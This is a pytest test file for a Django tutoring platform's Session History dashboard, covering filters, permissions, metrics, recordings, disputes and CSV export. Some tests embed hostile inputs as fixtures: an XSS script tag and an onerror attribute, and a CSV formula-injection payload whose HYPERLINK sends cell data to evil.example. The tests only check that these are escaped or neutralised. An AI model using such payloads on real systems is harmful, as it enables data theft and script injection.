"""The creator's Session History page, /dashboard/teaching/sessions (spec 000)."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import OperationalError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from analytics.models import Event
from creators.views import PAGE_SIZE
from sessions import lifecycle
from sessions.models import Recording, Session, Status
from tests.conftest import NOW, make_user
from tutoring.models import Course, Enrollment, Role

URL = "/dashboard/teaching/sessions"


@pytest.fixture
def disputed(make_session, parent):
    start = NOW - timedelta(days=2)
    s = make_session(start=start, status=Status.AWAITING_APPROVAL_PARENT, checked_in_at=start,
                     checked_out_at=start + timedelta(hours=1))
    lifecycle.dispute(s, by=parent, reason="The tutor left early.", now=NOW - timedelta(days=1))
    return Session.objects.get(pk=s.pk)


def html(response) -> str:
    return response.content.decode()


def test_the_page_for_a_creator(as_creator, rated, make_session):
    """H01 H04 H05 H06 H13 H18 (default): title, stats, and the recent sessions of every course with
    the students, STs, courses and the students' ratings."""
    make_session(start=NOW + timedelta(days=1))
    page = html(as_creator.get(URL))
    assert "<h1>Session History</h1>" in page
    assert "2 total sessions, 1 this week" in page  # NOW is a Monday: yesterday is last week
    assert f'id="row-{rated.id}"' in page
    for column in ("Date/Time", "Course", "Student", "ST", "Duration", "Status", "Rating", "Recording", "Actions"):
        assert f'<th scope="col">{column}</th>' in page
    assert "55 min" in page and 'aria-label="2 of 5 stars"' in page and "Low rating: review" in page
    assert 'href="/"' in page  # the breadcrumb back to the dashboard


def test_the_ways_in(as_creator, rated, student, course):
    """H02: reached from the creator's dashboard ("View Sessions"), the navigation's "Sessions"
    link, a student's page ("View Sessions", filtered to that student) and a course's page."""
    home = html(as_creator.get("/", follow=True))
    assert f'<a class="button" href="{URL}">View Sessions</a>' in home
    assert f'<a href="{URL}">Sessions</a>' in home  # the navigation, on every page
    profile = html(as_creator.get(f"/people/{student.id}/"))
    assert f'href="{URL}?student_id={student.id}">View Sessions</a>' in profile
    assert f'href="{URL}?course={course.id}">View Sessions</a>' in html(as_creator.get(f"/courses/{course.id}/"))
    filtered = html(as_creator.get(f"{URL}?student_id={student.id}"))
    assert f'id="row-{rated.id}"' in filtered and "Sessions of Sam only" in filtered


def test_filtered_to_one_student_exactly(as_creator, rated, make_session, course):
    """H02 H10: a student's page filters to that student, not to every name containing theirs;
    the filter stays across other filter changes (a hidden field) and says whose sessions these are."""
    samantha = make_user("samantha", Role.STUDENT)
    Enrollment.objects.create(course=course, student=samantha)
    hers = make_session(start=NOW - timedelta(days=4), status=Status.APPROVED, student=samantha)
    by_name = html(as_creator.get(URL, {"student": "Sam"}))
    assert f'id="row-{rated.id}"' in by_name and f'id="row-{hers.id}"' in by_name
    page = html(as_creator.get(URL, {"student_id": samantha.id, "status": "completed"}))
    assert f'id="row-{hers.id}"' in page and f'id="row-{rated.id}"' not in page
    assert "Sessions of Samantha only" in page and f'name="student_id" value="{samantha.id}"' in page
    assert f'href="{URL}?status=completed"' in page  # "All students" keeps the other filters
    api = as_creator.get("/api/creators/me/sessions", {"student_id": samantha.id}).json()
    assert [r["id"] for r in api["items"]] == [hers.id]
    # someone else's student: no rows and no name
    kid = make_user("secretkid", Role.STUDENT)
    page = html(as_creator.get(URL, {"student_id": kid.id}))
    assert "Secretkid" not in page and "Sessions of this student only" in page
    assert "No sessions match these filters." in page


@pytest.mark.parametrize("role", ["parent", "tutor", "coordinator", "student"])
def test_only_creators_see_it(client, request, role, rated):
    client.force_login(request.getfixturevalue(role))
    for page in (URL, f"{URL}/export.csv", f"{URL}/metrics"):  # the role's pages say whose they are
        response = client.get(page)
        assert response.status_code == 403 and "This page is for course creators" in response.content.decode()
    assert client.get(f"{URL}/{rated.id}/").status_code == 404  # an object URL stays a 404


def test_another_creator_sees_none_of_it(client, outsider, rated, disputed):
    """H01: only their own courses' sessions; a foreign session is 404 and cannot be resolved."""
    client.force_login(outsider)
    page = html(client.get(URL))
    assert f'id="row-{rated.id}"' not in page and "No sessions yet." in page
    assert client.get(f"{URL}/{rated.id}/").status_code == 404
    response = client.post(f"{URL}/{disputed.id}/resolve/", {"decision": "void", "reason": "mine"})
    assert response.status_code == 404
    assert Session.objects.get(pk=disputed.pk).status == Status.DISPUTED


def test_filters_live_in_the_url_and_combine(as_creator, rated, make_session, sibling, course, tutor):
    """H07 H08 H09 H10 H11 H12 H18 (filtered): the date range, course, ST, student name and status
    filters, alone and combined."""
    Enrollment.objects.create(course=course, student=sibling)
    other = make_session(start=NOW - timedelta(days=3), status=Status.NO_SHOW, student=sibling)
    page = html(as_creator.get(URL, {"status": "no_show"}))
    assert f'id="row-{other.id}"' in page and f'id="row-{rated.id}"' not in page
    page = html(as_creator.get(URL, {"student": "sa", "st": tutor.id, "course": course.id, "low_rated": "on"}))
    assert f'id="row-{rated.id}"' in page and f'id="row-{other.id}"' not in page
    page = html(as_creator.get(URL, {"range": "custom", "from": "2026-11-14", "to": "2026-11-15"}))
    assert f'id="row-{rated.id}"' in page and f'id="row-{other.id}"' not in page
    page = html(as_creator.get(URL, {"range": "today"}))
    assert "No sessions match these filters." in page and "Clear filters" in page


def test_bad_filter_values_are_reported_and_ignored(as_creator, rated):
    page = html(as_creator.get(URL, {"course": "99999", "status": "bogus", "range": "custom", "from": "2026-11-01",
                                     "to": "2026-10-01", "cursor": "garbage"}))
    assert "Select a valid choice." in page and "The end date is before the start date." in page
    assert f'id="row-{rated.id}"' in page  # the rest still applies


def test_htmx_filtering_answers_with_the_results_and_records_filter_applied(as_creator, rated):
    """H21: filter_applied (filter_type, value) for each changed filter."""
    response = as_creator.get(URL, {"status": "completed"}, headers={
        "HX-Request": "true", "HX-Current-URL": f"http://testserver{URL}"})
    body = html(response)
    assert body.lstrip().startswith('<section id="results"') and "<h1>" not in body
    event = Event.objects.get(name="filter_applied")
    assert event.data == {"filter_type": "status", "value": "completed"} and event.source == "server"


def test_htmx_filtering_shows_the_canonical_url(as_creator, rated, tutor):
    """The form sends every field, empty or not; the address bar gets the URL of the filters that
    apply ("?st=12"), which reloads and shares as the same page."""
    form = {"student_id": "", "range": "", "from": "", "to": "", "course": "", "st": str(tutor.id), "student": "",
            "status": "all"}
    response = as_creator.get(URL, form, headers={"HX-Request": "true", "HX-Current-URL": f"http://testserver{URL}"})
    assert response["HX-Push-Url"] == f"{URL}?st={tutor.id}"
    assert as_creator.get(URL, {"status": "all"}, headers={"HX-Request": "true"})["HX-Push-Url"] == URL


def test_page_view_is_recorded(as_creator, rated, creator):
    """H21: page_view with session_count and filter_state."""
    as_creator.get(URL, {"status": "completed"})
    event = Event.objects.get(name="page_view")
    assert event.user == creator
    assert event.data == {"session_count": 1, "filter_state": {"status": "completed"}}


def test_the_metrics_summary_with_its_chart(as_creator, rated, make_session, django_assert_max_num_queries):
    """H16: average duration, completion rate, average rating, no-show rate, and by ST, for the
    current filters; loaded after the table (htmx) or as a page of its own."""
    make_session(start=NOW - timedelta(days=3), status=Status.NO_SHOW)
    page = html(as_creator.get(URL))
    assert 'hx-get="/dashboard/teaching/sessions/metrics"' in page and 'hx-trigger="load"' in page
    with django_assert_max_num_queries(8):
        panel = html(as_creator.get(f"{URL}/metrics", headers={"HX-Request": "true"}))
    assert panel.lstrip().startswith('<section id="metrics"')
    assert "55.0 min" in panel and "50%" in panel and "2.0 / 5" in panel  # 1 of 2 settled; 1 of 2 due
    assert '<svg class="chart"' in panel and "<title id=\"chart-title\">Sessions per ST</title>" in panel
    filtered = html(as_creator.get(f"{URL}/metrics", {"status": "no_show"}))
    assert "<h1>Session summary</h1>" in filtered and "for these filters" in filtered and "100%" in filtered


def test_metrics_from_the_sessions_take_the_courses_from_the_frame(as_creator, rated, make_session):
    """Issue 13 item 6: a date range sends the metrics to the sessions of the creator's courses,
    whose ids the page's frame already holds: the request reads no course (the frame cached by
    the first view), and the figures are those of the range."""
    make_session(start=NOW - timedelta(days=40), status=Status.NO_SHOW)
    week = {"range": "custom", "from": (NOW - timedelta(days=10)).date().isoformat()}
    as_creator.get(f"{URL}/metrics", week, headers={"HX-Request": "true"})  # the frame, cached
    with CaptureQueriesContext(connection) as ran:
        panel = html(as_creator.get(f"{URL}/metrics", {**week, "status": "completed"},
                                    headers={"HX-Request": "true"}))
    assert not [q["sql"] for q in ran.captured_queries if '"tutoring_course"' in q["sql"]]
    assert "55.0 min" in panel and "100%" in panel  # the rated session; the no-show is before the range





def test_a_row_escapes_every_text(as_creator, rated, student, tutor, course):
    """H13: the row's texts (course title, names, the avatar's initial, the links' "next") are
    escaped; the row is built in Python, not a template loop, so this pins its escaping."""
    student.name, student.avatar_url = '<script>alert(1)</script> & "Sam"', 'https://x.test/a.png?"onerror=1'
    student.save()
    course.title = "<b>Algebra</b>"
    course.save()
    page = html(as_creator.get(URL, {"student": "Sam"}))
    row = page[page.index(f'id="row-{rated.id}"'):]
    row = row[:row.index("</tr>")]
    assert "<script>" not in row and "<b>" not in row and '"onerror' not in row
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Sam&quot;" in row
    assert "&lt;b&gt;Algebra&lt;/b&gt;" in row
    assert 'src="https://x.test/a.png?&quot;onerror=1"' in row
    assert "?next=/dashboard/teaching/sessions%3Fstudent%3DSam" in row
    assert '<span class="stars" role="img" aria-label="2 of 5 stars">' in row and "Low rating: review" in row

def test_a_disputed_row_has_one_label(as_creator, disputed):
    """H13 H17 (US-C046): a disputed session's row says once what it is, "Disputed: needs a
    decision" (its bucket, Completed, would contradict it)."""
    page = html(as_creator.get(URL))
    row = page[page.index(f'id="row-{disputed.id}"'):]
    status = row[row.index('data-label="Status"'):row.index('data-label="Rating"')]
    assert status.count('class="label') == 1 and "Disputed: needs a decision" in status

def test_the_per_st_table(as_creator, rated, make_session, tutor):
    """H16 (breakdown by ST): one row per ST, its name escaped and linked to its profile, its
    sessions, average duration, completion rate, average rating and no-show rate, "–" where a
    figure has nothing to go on (built in Python, not a template loop: it must say the same)."""
    tutor.name = '<b>Tia</b> & "Co"'
    tutor.save()
    make_session(start=NOW - timedelta(days=3), status=Status.NO_SHOW)
    panel = html(as_creator.get(f"{URL}/metrics", headers={"HX-Request": "true"}))
    row = (f'<tr><th scope="row"><a href="/people/{tutor.id}/">&lt;b&gt;Tia&lt;/b&gt; &amp; &quot;Co&quot;</a></th>'
           f'{st_cells("2", "55.0 min", "50%", "2.0", "50%")}</tr>')
    assert row in panel
    unrated = html(as_creator.get(f"{URL}/metrics", {"status": "no_show"}, headers={"HX-Request": "true"}))
    assert f'{st_cells("1", "–", "0%", "–", "100%")}</tr>' in unrated


def st_cells(*figures: str) -> str:
    """A per-ST row's figure cells, each labelled for the phone's card (H19)."""
    labels = ("Sessions", "Avg duration", "Completion", "Rating", "No-show")
    return "".join(f'<td data-label="{label}">{figure}</td>'
                   for label, figure in zip(labels, figures, strict=True))


def test_the_detail_panel_has_its_own_url(as_creator, rated, creator):
    """H14 H18 (detail open) H21 (session_viewed): info, both feedbacks, recording, notes."""
    page = html(as_creator.get(f"{URL}/{rated.id}/"))
    assert 'id="detail-title"' in page and "Sam with Tia" in page and "“Too fast”" in page
    assert "Flagged for review" in page and "Recording not available" in page and "Session notes" in page
    assert f'id="row-{rated.id}"' in page  # the table beside it
    partial = html(as_creator.get(f"{URL}/{rated.id}/", headers={"HX-Request": "true"}))
    assert partial.lstrip().startswith('<aside id="detail"')
    assert Event.objects.filter(name="session_viewed", data={"session_id": rated.id}, user=creator).count() == 2


def test_a_recording_plays_through_a_short_lived_link(as_creator, rated, client, outsider, notes_storage):
    """H14 H22 H23: the player when a recording exists; the signed URL for allowed users only."""
    notes_storage.mkdir(parents=True, exist_ok=True)
    (notes_storage / "rec").mkdir()
    (notes_storage / "rec" / "1.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42")
    Recording.objects.create(session=rated, provider="p2p", status="available", r2_key="rec/1.mp4")
    page = html(as_creator.get(f"{URL}/{rated.id}/"))
    assert '<video class="recording"' in page and 'data-analytics="recording_played"' in page
    api = as_creator.get(f"/api/sessions/{rated.id}/recording").json()
    assert api["url"].startswith("/notes/files/") and api["expires_at"].startswith("2026-11-16T10:05:00")
    played = as_creator.get(f"/sessions/{rated.id}/recording/")
    assert played.status_code == 302
    video = as_creator.get(played["Location"])
    assert video.status_code == 200 and video["Content-Type"] == "video/mp4"
    client.force_login(outsider)
    assert client.get(f"/api/sessions/{rated.id}/recording").status_code == 404
    assert client.get(f"/sessions/{rated.id}/recording/").status_code == 404


def test_no_recording_is_404_with_the_specs_words(as_creator, rated):
    response = as_creator.get(f"/api/sessions/{rated.id}/recording")
    assert response.status_code == 404 and response.json()["detail"] == "Recording not available"


def test_the_creator_resolves_a_dispute_through_the_lifecycle(as_creator, disputed, creator):
    """H14 H17 (US-C046): resolve with a reason; the lifecycle records it."""
    url = f"{URL}/{disputed.id}/"
    assert "Resolve the dispute" in html(as_creator.get(url)) and "The tutor left early." in html(as_creator.get(url))
    refused = as_creator.post(f"{url}resolve/", {"decision": "void", "reason": " "})
    assert refused.status_code == 422 and "Please give a reason for the decision." in html(refused)
    assert Session.objects.get(pk=disputed.pk).status == Status.DISPUTED
    done = as_creator.post(f"{url}resolve/", {"decision": "void", "reason": "Only twenty minutes."},
                           headers={"HX-Request": "true"})
    assert "Dispute resolved: the session is void (Not Completed)." in html(done)
    disputed.refresh_from_db()
    assert disputed.status == Status.NOT_COMPLETED
    event = disputed.events.get(kind="resolve_dispute")
    assert (event.actor, event.channel, event.reason) == (creator, "web", "Only twenty minutes.")
    again = as_creator.post(f"{url}resolve/", {"decision": "approve", "reason": "twice"})
    assert again.status_code == 409 and Session.objects.get(pk=disputed.pk).status == Status.NOT_COMPLETED


def test_the_upcoming_calendar(as_creator, make_session):
    """H15 H18 (calendar view): scheduled sessions with who, when, which course; no actions."""
    soon = make_session(start=NOW + timedelta(days=2))
    next_month = make_session(start=NOW + timedelta(days=30))
    page = html(as_creator.get(URL, {"tab": "upcoming"}))
    assert "November 2026" in page and "Sam with Tia" in page and "Algebra I" in page
    assert "<form" not in page.split('id="calendar"')[1]  # no direct intervention
    week = html(as_creator.get(URL, {"tab": "upcoming", "view": "week", "date": "2026-12-16"}))
    assert "Week of 14 December 2026" in week and f"{next_month.scheduled_start:%H:%M}" in week
    assert soon.student.name in week
    assert html(as_creator.get(URL, {"tab": "upcoming", "date": "not-a-date"})).count("November 2026") >= 1


def test_empty_state(client, db):
    """H18 (empty): a creator with no sessions is told what to do next."""
    client.force_login(make_user("newbie", Role.CREATOR))
    page = html(client.get(URL))
    assert "No sessions yet." in page and "0 total sessions, 0 this week" in page


def test_load_failure_state(as_creator, rated):
    """H20: "Unable to load sessions. [Retry]" instead of an error page when the database fails."""
    def fail(execute, sql, params, many, context):
        if "tutoring_sessions_session" in sql and f"LIMIT {PAGE_SIZE + 1}" in sql:  # the table's rows
            raise OperationalError("canceling statement due to statement timeout")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(fail):
        response = as_creator.get(URL)
    assert response.status_code == 503
    assert "Unable to load sessions." in html(response) and ">Retry</a>" in html(response)
    retried = as_creator.get(URL)  # the failure was shown, not cached
    assert retried.status_code == 200 and f'id="row-{rated.id}"' in html(retried)


def test_csv_export_streams_the_filtered_list(as_creator, rated, make_session):
    """Item 10: CSV of the filtered list, streamed."""
    make_session(start=NOW - timedelta(days=5), status=Status.NO_SHOW)
    response = as_creator.get(f"{URL}/export.csv", {"status": "completed"})
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["session_id", "date", "time"]
    assert [r[0] for r in rows[1:]] == [str(rated.id)]
    assert rows[1][5:7] == ["Sam", "Tia"] and rows[1][9] == "Completed" and rows[1][11] == "2"


@pytest.mark.parametrize("n", [10, 1000])
def test_constant_queries_at_10_and_1000_sessions(as_creator, tutor, student, course, n,
                                                  django_assert_max_num_queries):
    """Item 11: a constant number of queries per request."""
    Session.objects.bulk_create([
        Session(tutor=tutor, student=student, course=course, status=Status.APPROVED,
                scheduled_start=NOW - timedelta(hours=2 * i + 2), scheduled_end=NOW - timedelta(hours=2 * i + 1),
                checked_in_at=NOW - timedelta(hours=2 * i + 2), checked_out_at=NOW - timedelta(hours=2 * i + 1))
        for i in range(n)])
    some = Session.objects.order_by("-scheduled_start").first()
    with django_assert_max_num_queries(12):
        assert as_creator.get(URL).status_code == 200
    with django_assert_max_num_queries(12):
        assert as_creator.get(URL, {"status": "completed", "range": "month"}).status_code == 200
    with django_assert_max_num_queries(20):
        assert as_creator.get(f"{URL}/{some.id}/").status_code == 200
    with django_assert_max_num_queries(8):
        assert as_creator.get(URL, {"tab": "upcoming"}).status_code == 200


def test_profile_and_course_pages(as_creator, client, rated, student, tutor, course, outsider, parent):
    """H03: names open a profile, the course name a course page; strangers get 404."""
    page = html(as_creator.get(reverse("profile", args=[student.id])))
    assert "Sam" in page and "View Sessions" in page and "Message Sam" in page
    assert "Tia" in html(as_creator.get(reverse("profile", args=[tutor.id])))
    assert as_creator.get(reverse("profile", args=[parent.id])).status_code == 404
    course_page = html(as_creator.get(reverse("course", args=[course.id])))
    assert "Algebra I" in course_page and f"?course={course.id}" in course_page
    other = Course.objects.create(creator=outsider, title="Not yours")
    assert as_creator.get(reverse("course", args=[other.id])).status_code == 404
    client.force_login(outsider)
    assert client.get(reverse("profile", args=[student.id])).status_code == 404
    assert client.get(reverse("course", args=[course.id])).status_code == 404


def test_pages_merge_every_course_newest_first(as_creator, creator, make_session, tutor, student):
    """The per-course index walks merge into one newest-first order, page after page."""
    second = Course.objects.create(creator=creator, title="Geometry")
    Enrollment.objects.create(course=second, student=student)
    made = [make_session(start=NOW - timedelta(days=1, hours=3 * i), course=second if i % 3 else None) for i in range(9)]
    made = [s for s in made if s.course_id] + [make_session(start=NOW - timedelta(days=1, hours=3 * i + 1))
                                               for i in range(4)]
    expected = [s.id for s in sorted(made, key=lambda s: (s.scheduled_start, s.id), reverse=True)]
    seen, cursor = [], None
    while True:
        body = as_creator.get("/api/creators/me/sessions", {"limit": 4, **({"cursor": cursor} if cursor else {})}).json()
        seen += [r["id"] for r in body["items"]]
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert seen == expected
    page = html(as_creator.get(URL))
    assert [int(i) for i in __import__("re").findall(r'id="row-(\d+)"', page)] == expected[:25]


@pytest.mark.parametrize("query", [
    {"range": "custom", "to": "9999-12-31"}, {"range": "custom", "from": "0001-01-01"},
    {"tab": "upcoming", "date": "9999-12-31"}, {"tab": "upcoming", "date": "0001-01-01"},
    {"tab": "upcoming", "view": "week", "date": "9999-12-30"}, {"st": "²"}, {"cursor": "2024-01-01_1"},
    {"range": "custom"}, {"student": "x" * 5000}, {"student_id": "9" * 30}, {"student_id": "-1"},
    {"student_id": "²"},
], ids=repr)
def test_hostile_query_strings_get_a_page_not_a_500(as_creator, rated, query):
    """Extreme dates, Unicode digits, a cursor without a time zone: a clear message or the
    default, never an error page, on the page, the metrics, the CSV and the detail."""
    for url in (URL, f"{URL}/metrics", f"{URL}/export.csv", f"{URL}/{rated.id}/"):
        response = as_creator.get(url, query)
        assert response.status_code == 200, (url, query, response.status_code)
    page = html(as_creator.get(URL, query))
    if query.get("range") == "custom":
        assert "between the years 2000 and 2100" in page or "Choose a start or an end date" in page


def test_dates_without_a_custom_range_are_not_a_filter(as_creator, rated):
    page = html(as_creator.get(URL, {"from": "2020-01-01"}))
    assert "Clear filters" not in page


@pytest.mark.parametrize("name", [" =1+1", "\t=1+1", "  \t@SUM(A1)", "\n-2+3", " +cmd", "\t@SUM(1)", "+1", "-1",
                                  "@x"], ids=repr)
def test_the_csv_neutralises_a_formula_after_spaces_or_tabs(as_creator, make_session, student, name):
    """Issue 11.6: spreadsheets skip leading spaces and tabs, so " =1+1" is a formula too."""
    student.name = name
    student.save()
    make_session(start=NOW - timedelta(days=1))
    body = b"".join(as_creator.get(f"{URL}/export.csv").streaming_content).decode()
    assert list(csv.reader(io.StringIO(body)))[1][5] == "'" + name


def test_the_csv_never_starts_a_formula(as_creator, make_session, student):
    student.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    student.save()
    make_session(start=NOW - timedelta(days=1))
    body = b"".join(as_creator.get(f"{URL}/export.csv").streaming_content).decode()
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[5] == "'" + student.name


@pytest.mark.parametrize(("path", "query"), [
    ("/api/creators/me/sessions", {"student": "\x00"}), ("/api/creators/me/sessions/stats", {"student": "\x00"}),
    ("/api/creators/me/sessions/upcoming", {"from": "9999-12-31T00:00:00+00:00"}),
    ("/api/creators/me/sessions", {"cursor": "2024-01-01_1"}),
    ("/api/creators/me/sessions", {"student_id": "9" * 30}), ("/api/creators/me/sessions/stats", {"student_id": "0"}),
    # a course or ST id past a bigint reached the rows' SQL: "bigint out of range", a 500
    ("/api/creators/me/sessions", {"course": "9" * 30}), ("/api/creators/me/sessions", {"st": "9223372036854775808"}),
    ("/api/creators/me/sessions/stats", {"course": "9" * 30}), ("/api/me/st-sessions", {"course": "9" * 30}),
    ("/api/me/st-analytics/sessions", {"st": "9" * 30}), ("/api/creators/me/sessions", {"course": "0"}),
])
def test_api_rejects_hostile_filters_with_422(as_creator, path, query):
    response = as_creator.get(path, query)
    assert response.status_code == 422 and response.json()["code"] == "invalid", response.content


def test_filter_applied_compares_what_filters_not_how_the_url_spells_it(as_creator, rated):
    """status=all and dates without a custom range filter nothing: leaving them is no filter change."""
    as_creator.get(URL, headers={"HX-Request": "true",
                                 "HX-Current-URL": f"http://testserver{URL}?status=all&from=2020-01-01"})
    assert not Event.objects.filter(name="filter_applied").exists()
    as_creator.get(URL, {"range": "week"}, headers={"HX-Request": "true",
                                                    "HX-Current-URL": f"http://testserver{URL}?status=all"})
    assert list(Event.objects.filter(name="filter_applied").values_list("data", flat=True)) == [
        {"filter_type": "range", "value": "week"}]


def test_a_recording_not_stored_yet_is_not_offered_anywhere(as_creator, rated):
    """One rule for "playable": the play icon, the player and the signed link agree."""
    Recording.objects.create(session=rated, provider="p2p", status="available", r2_key="")
    assert 'aria-label="Recording of session' not in html(as_creator.get(URL))
    assert "Recording not available" in html(as_creator.get(f"{URL}/{rated.id}/"))
    response = as_creator.get(f"/api/sessions/{rated.id}/recording")
    assert response.status_code == 404 and response.json()["code"] == "no_recording"
    assert as_creator.get(f"/sessions/{rated.id}/recording/").status_code == 404


def test_the_selects_use_the_ready_made_option_lists(as_creator, rated, tutor, course):
    """Every select is written from the option lists built in Python (cached with the page's
    frame), not by Django's widget templates (30-40 ms a page for 500 STs); the chosen value is
    marked."""
    page = html(as_creator.get(URL, {"st": tutor.id, "status": "completed"}))
    assert (f'<select name="st" id="f-st"><option value="">All STs</option>'
            f'<option value="{tutor.id}" selected>Tia</option></select>') in page
    assert (f'<select name="course" id="f-course"><option value="" selected>All courses</option>'
            f'<option value="{course.id}">Algebra I</option></select>') in page
    assert '<option value="completed" selected>Completed</option>' in page


@pytest.mark.parametrize(("status", "label"), [(Status.CHECKED_IN, "In progress"), (Status.SCHEDULED, "Scheduled"),
                                               (Status.AWAITING_APPROVAL_PARENT, "Awaiting parent acknowledgement")])
def test_the_detail_panel_shows_one_status_label(as_creator, make_session, status, label):
    """H14 (issue 10 item 6): the panel's status is one label for the status as it is, not the filter's
    bucket beside the status ("Scheduled (Checked in)")."""
    start = NOW - timedelta(minutes=20)
    s = make_session(start=start, status=status, checked_in_at=start if status != Status.SCHEDULED else None)
    page = html(as_creator.get(f"{URL}/{s.id}/"))
    shown = page[page.index('data-testid="detail-status">') + len('data-testid="detail-status">'):]
    rest = shown[shown.index("</span>"):shown.index("</dd>")]
    assert shown[:shown.index("</span>")] == label and rest == "</span>"
